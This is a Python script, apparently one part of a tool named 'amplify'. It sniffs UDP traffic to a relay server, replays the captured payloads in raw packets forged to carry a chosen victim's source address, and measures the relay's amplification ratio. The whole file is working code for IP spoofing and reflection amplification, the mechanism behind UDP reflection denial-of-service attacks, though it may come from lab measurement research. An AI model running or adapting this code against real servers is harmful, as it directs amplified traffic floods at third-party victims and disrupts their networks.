"""Part of amplify: hears what comes to a supernode, and sends it again from a forged source."""
import json
import os
import signal
import socket
import struct
import sys
import time

RELAY, PORT = "198.18.9.1", 4400
TIMES = 10
QUIET = 2.5  # seconds without anything: nothing more is coming (handshakes are retransmitted by then)
KINDS = {4: "handshake 1", 5: "handshake 2", 6: "handshake 3", 7: "cookie", 8: "data", 9: "request", 10: "answer", 11: "forward"}


def kind(payload):
    first = payload[0] if payload else -1
    return KINDS.get(first, "stun" if 0 <= first < 4 else "voice" if 128 <= first < 192 else f"byte {first}")


def udp_of(frame):
    """Source and payload of a datagram over IPv4 to the supernode's port; None for anything else."""
    if frame[12:14] != b"\x08\x00" or frame[23] != socket.IPPROTO_UDP:
        return None
    ip = frame[14:]
    header = (ip[0] & 15) * 4
    source, to = struct.unpack("!HH", ip[header:header + 4])
    length = struct.unpack("!H", ip[header + 4:header + 6])[0]
    return socket.inet_ntoa(ip[12:16]), source, socket.inet_ntoa(ip[16:20]), to, ip[header + 8:header + length]


def record(file):
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    heard = {}
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    open(file, "w").close()
    try:
        while True:
            found = udp_of(ear.recv(65535))
            if not found or found[2] != RELAY or found[3] != PORT:
                continue
            of_kind = heard.setdefault(kind(found[4]), [])
            if len(of_kind) < 40 and found[4].hex() not in of_kind:
                of_kind.append(found[4].hex())
    finally:
        with open(file, "w") as out:
            json.dump(heard, out)


def turn():
    """Requests of an ordinary TURN client, bare and with an attribute that nobody knows."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for body in (b"", struct.pack("!HHI", 0x19, 4, 0x11000000), struct.pack("!HHI", 0x7777, 4, 0)):
            for method in (1, 3, 4, 8, 9):
                s.sendto(struct.pack("!HHI", method, len(body), 0x2112A442) + os.urandom(12) + body, (RELAY, PORT))
        s.settimeout(0.5)
        try:
            while s.recv(2048):  # what is answered is recorded by then
                pass
        except TimeoutError:
            pass


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def forged(source, port, payload, to=RELAY):
    udp = struct.pack("!HHHH", port, PORT, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(to))
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp + payload


def forge(file, victim):
    """From the victim's own machine, since a switch sends it nothing else; no socket of its own would answer: it has none."""
    with open(file) as f:
        heard = json.load(f)
    eye = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    eye.settimeout(QUIET)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rows = {}
    port = 20000
    for name, payloads in sorted(heard.items()):
        row = rows.setdefault(name, {"forged": 0, "packets": 0, "answered": 0, "answers": 0, "worst": 0})
        for payload in map(bytes.fromhex, payloads):
            port += 1
            for _ in range(TIMES):
                out.sendto(forged(victim, port, payload), (RELAY, 0))
                row["forged"] += len(payload)
                row["packets"] += 1
                time.sleep(0.002)
        until = time.monotonic() + QUIET
        came = {}
        while time.monotonic() < until:
            try:
                found = udp_of(eye.recv(65535))
            except TimeoutError:
                break
            if found and found[0] == RELAY and found[2] == victim:
                row["answered"] += len(found[4])
                row["answers"] += 1
                came[found[3]] = came.get(found[3], 0) + len(found[4])
        sent = {port - len(payloads) + 1 + i: TIMES * len(bytes.fromhex(p)) for i, p in enumerate(payloads)}
        row["worst"] = round(max([came.get(at, 0) / n for at, n in sent.items() if n], default=0), 3)
        row["ratio"] = round(row["answered"] / max(1, row["forged"]), 3)
    print(json.dumps(rows))


if __name__ == "__main__":
    {"record": record, "turn": turn, "forge": forge}[sys.argv[1]](*sys.argv[2:])
